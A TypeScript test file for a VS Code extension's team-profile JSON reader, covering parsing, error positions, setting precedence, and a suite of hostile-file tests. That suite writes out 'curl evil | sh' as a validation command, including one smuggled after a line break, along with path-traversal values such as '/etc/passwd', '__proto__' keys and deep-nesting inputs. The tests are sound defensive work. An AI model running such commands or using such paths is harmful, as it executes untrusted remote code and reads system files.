import * as assert from 'node:assert/strict';
import { LineIndex } from '../../src/core/jsonProblems';
import { effectiveSetting, firstProfileValue } from '../../src/core/profile/precedence';
import { PROFILE_KEYS, profileFileFrom, type ProfileValues } from '../../src/core/profile/profileSchema';
import { readTeamProfile } from '../../src/core/profile/teamProfile';

/** Problems as "line:character severity message" (0-based, as VS Code positions are). */
function located(text: string): string[] {
  const lines = new LineIndex(text);
  return readTeamProfile(text).problems.map((p) => {
    const { line, character } = lines.position(p.offset);
    return `${line}:${character} ${p.severity} ${p.message}`;
  });
}

describe('team profile file', () => {
  it('reads every recommended setting of a valid file, with comments and a trailing comma', () => {
    const text = `{
  // what our team recommends
  "$schema": "https://example.invalid/x.json",
  "coach": { "enabled": true, "preset": "learner", "dailyBudget": 5, "quietHours": "18:00-09:00",
             "emphasis": ["validate", "decompose"], "largeBurstLines": 60, "markAiCode": true },
  "validation": { "commands": ["npm test", "npm run lint"] },
  "exercises": { "packs": ["deliberate.habits", "team.basics"], "packFiles": [".vscode/deliberate-packs/team.json"], },
}`;
    const profile = readTeamProfile(text);
    assert.deepEqual(profile, {
      values: {
        'coach.enabled': true,
        'coach.preset': 'learner',
        'coach.dailyBudget': 5,
        'coach.quietHours': '18:00-09:00',
        'coach.emphasis': ['validate', 'decompose'],
        'coach.largeBurstLines': 60,
        'coach.markAiCode': true,
        'validation.commands': ['npm test', 'npm run lint'],
        'exercises.packs': ['deliberate.habits', 'team.basics'],
      },
      packFiles: ['.vscode/deliberate-packs/team.json'],
      problems: [],
    });
  });

  it('puts each problem at its line and keeps the valid settings', () => {
    const text = `{
  "coach": {
    "preset": "loud",
    "dailyBudget": 2.5,
    "quietHours": "9-17",
    "emphasis": ["validate", "speed"],
    "enabled": false,
    "colour": "blue"
  },
  "validation": { "commands": ["npm test"] },
  "extras": 1
}`;
    assert.deepEqual(located(text), [
      '2:14 error coach.preset: Invalid option: expected one of "quiet"|"standard"|"learner"',
      '3:19 error coach.dailyBudget: Invalid input: expected int, received number',
      '4:18 error coach.quietHours: Use HH:MM-HH:MM on the 24-hour clock, for example 18:00-09:00, or leave it empty.',
      '5:29 error coach.emphasis[1]: Invalid option: expected one of "iterate"|"validate"|"decompose"|"learn"',
      '7:4 warning "coach.colour" is not part of a team profile; it is ignored.',
      '10:2 warning "extras" is not part of a team profile; it is ignored.',
    ]);
    assert.deepEqual(readTeamProfile(text).values, { 'coach.enabled': false, 'validation.commands': ['npm test'] });
  });

  it('reports a syntax error where it is and still reads what parsed', () => {
    const text = '{\n  "coach": { "preset": "quiet" }\n  "validation": { "commands": ["make test"] }\n}';
    assert.deepEqual(located(text), ['2:2 error JSON syntax: comma expected']);
    assert.deepEqual(readTeamProfile(text).values, { 'coach.preset': 'quiet', 'validation.commands': ['make test'] });
  });

  it('names what a profile must be when it is not an object, and an empty file', () => {
    assert.deepEqual(located('["quiet"]'), ['0:0 error A team profile is a JSON object, such as { "coach": { "preset": "standard" } }.']);
    assert.deepEqual(located('  \n'), ['0:0 error The file is empty: expected a JSON object.']);
  });

  it('writes a profile from values that reads back to the same values', () => {
    const values: ProfileValues = { 'coach.preset': 'quiet', 'coach.emphasis': ['learn'], 'validation.commands': ['cargo test'], 'exercises.packs': [] };
    const file = profileFileFrom(values, { packFiles: ['p.deliberate-pack.json'] });
    assert.deepEqual(file, { coach: { preset: 'quiet', emphasis: ['learn'] }, validation: { commands: ['cargo test'] }, exercises: { packs: [], packFiles: ['p.deliberate-pack.json'] } });
    const back = readTeamProfile(JSON.stringify(file, null, 2));
    assert.deepEqual(back, { values, packFiles: ['p.deliberate-pack.json'], problems: [] });
  });

  it('maps every recommendable setting to a coach, validation or exercises setting key', () => {
    assert.deepEqual(PROFILE_KEYS, [
      'coach.enabled',
      'coach.preset',
      'coach.dailyBudget',
      'coach.minutesBetweenNudges',
      'coach.quietHours',
      'coach.emphasis',
      'coach.largeBurstLines',
      'coach.markAiCode',
      'coach.codeLens',
      'validation.commands',
      'exercises.packs',
    ]);
  });
});

describe('setting precedence: the person wins, then the profile, then the default', () => {
  it('resolves every combination of layers', () => {
    const cases = [
      [{ defaultValue: 'standard' }, undefined],
      [{ defaultValue: 'standard' }, 'learner'],
      [{ defaultValue: 'standard', globalValue: 'quiet' }, 'learner'],
      [{ defaultValue: 'standard', workspaceValue: 'learner' }, 'quiet'],
      [{ defaultValue: 'standard', globalValue: 'quiet', workspaceValue: 'standard', workspaceFolderValue: 'learner' }, 'quiet'],
      [undefined, 'learner'],
      [undefined, undefined],
    ] as const;
    assert.deepEqual(
      cases.map(([layers, profile]) => effectiveSetting<string>(layers, profile)),
      [
        { value: 'standard', source: 'default' },
        { value: 'learner', source: 'profile' },
        { value: 'quiet', source: 'user' },
        { value: 'learner', source: 'workspace' },
        { value: 'learner', source: 'folder' },
        { value: 'learner', source: 'profile' },
        { value: undefined, source: 'default' },
      ],
    );
  });

  it('an explicit false or empty list set by the person still wins over the profile', () => {
    assert.deepEqual(effectiveSetting({ defaultValue: true, globalValue: false }, true), { value: false, source: 'user' });
    assert.deepEqual(effectiveSetting<string[]>({ defaultValue: [], globalValue: [] }, ['npm test']), { value: [], source: 'user' });
  });

  it('with several folders, the first that sets a key decides', () => {
    assert.deepEqual([firstProfileValue([undefined, 'quiet', 'learner']), firstProfileValue<string>([undefined, undefined])], ['quiet', undefined]);
  });
});

describe('team profile checker against hostile files', () => {
  it('a key set twice is a problem at both places and neither value applies', () => {
    const text = '{"validation":{"commands":["curl evil | sh"],"commands":["npm test"]},\n "coach": { "preset": "quiet" } }';
    const profile = readTeamProfile(text);
    assert.deepEqual(located(text), [
      '0:15 error "commands" is set 2 times in this object: neither value applies. Keep one.',
      '0:45 error "commands" is set 2 times in this object: neither value applies. Keep one.',
    ]);
    assert.deepEqual(profile.values, { 'coach.preset': 'quiet' });
  });

  it('a section set twice applies none of its settings, and the rest of the file still applies', () => {
    const text = '{\n"validation": { "commands": ["curl evil | sh"] },\n"exercises": { "packs": ["deliberate.habits"] },\n"validation": { "commands": ["npm test"] }\n}';
    assert.deepEqual(located(text), [
      '1:0 error "validation" is set 2 times in this object: neither value applies. Keep one.',
      '3:0 error "validation" is set 2 times in this object: neither value applies. Keep one.',
    ]);
    assert.deepEqual(readTeamProfile(text).values, { 'exercises.packs': ['deliberate.habits'] });
  });

  it('refuses a command with a line break (two commands in a terminal), at its place', () => {
    const text = '{ "validation": { "commands": ["npm test\\ncurl evil | sh"] } }';
    assert.deepEqual(located(text), ['0:31 error validation.commands[0]: One line only: a line break or a control character would run a second command.']);
    assert.deepEqual(readTeamProfile(text).values, {});
  });

  it('pack files must stay inside the workspace folder', () => {
    const text = '{ "exercises": { "packFiles": ["../../home/me/x.json", "/etc/passwd", "ok/team.deliberate-pack.json"] } }';
    const profile = readTeamProfile(text);
    assert.deepEqual(
      profile.problems.map((p) => p.message),
      [0, 1].map((k) => `exercises.packFiles[${k}]: A path inside the workspace folder, such as .vscode/deliberate-packs/team.deliberate-pack.json: no "..", not absolute.`),
    );
    assert.deepEqual(profile.packFiles, ['ok/team.deliberate-pack.json']);
  });

  it('keys named like Object.prototype members are only unknown keys', () => {
    const text = '{ "__proto__": { "coach": 1 }, "coach": { "constructor": "x", "toString": 2, "preset": "learner" }, "hasOwnProperty": [] }';
    assert.deepEqual(readTeamProfile(text).problems.map((p) => p.message), [
      '"coach.constructor" is not part of a team profile; it is ignored.',
      '"coach.toString" is not part of a team profile; it is ignored.',
      '"__proto__" is not part of a team profile; it is ignored.',
      '"hasOwnProperty" is not part of a team profile; it is ignored.',
    ]);
    assert.deepEqual(readTeamProfile(text).values, { 'coach.preset': 'learner' });
    assert.equal(({} as Record<string, unknown>).coach, undefined);
  });

  it('100,000 nested brackets are one clean problem, never a thrown RangeError', () => {
    const text = '['.repeat(100_000);
    assert.deepEqual(located(text), ['0:16 error Nested too deep: more than 16 levels of objects and arrays. Nothing in the file was read.']);
    const objects = `{"coach":${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}}`;
    assert.deepEqual(readTeamProfile(objects).problems.map((p) => p.message), ['Nested too deep: more than 16 levels of objects and arrays. Nothing in the file was read.']);
  });

  it('brackets inside strings and comments do not count as nesting', () => {
    const text = `{ // ${'['.repeat(100)}\n "validation": { "commands": ["${'['.repeat(100)}"] } }`;
    assert.deepEqual(readTeamProfile(text), { values: { 'validation.commands': ['['.repeat(100)] }, packFiles: [], problems: [] });
  });

  it('a file over the size limit is one clean problem', () => {
    const text = `{ "coach": { "quietHours": "${' '.repeat(1_000_001)}" } }`;
    assert.deepEqual(located(text), ['0:0 error The file is too big to check: 1.0 million characters, at most 1.0 million characters.']);
  });

  it('30,000 unknown keys: the first 200 problems at their lines, then how many more there are', () => {
    const keys = Array.from({ length: 30_000 }, (_, k) => `  "unknown${k}": ${k}`);
    const text = `{\n  "coach": { "preset": "quiet" },\n${keys.join(',\n')}\n}`;
    const profile = readTeamProfile(text);
    assert.equal(profile.problems.length, 201);
    assert.deepEqual(located(text).slice(0, 2), ['2:2 warning "unknown0" is not part of a team profile; it is ignored.', '3:2 warning "unknown1" is not part of a team profile; it is ignored.']);
    assert.equal(located(text)[199], '201:2 warning "unknown199" is not part of a team profile; it is ignored.');
    assert.equal(profile.problems[200]!.message, '29800 more problems are not shown. Fix these first.');
    assert.deepEqual(profile.values, { 'coach.preset': 'quiet' });
  });

  it('positions count lines as VS Code does: \\r\\n, \\n and \\r alone', () => {
    for (const eol of ['\r\n', '\n', '\r']) {
      const text = ['{', '  "coach": {', '    "preset": "loud"', '  }', '}'].join(eol);
      assert.deepEqual(located(text), ['2:14 error coach.preset: Invalid option: expected one of "quiet"|"standard"|"learner"'], JSON.stringify(eol));
    }
  });
});
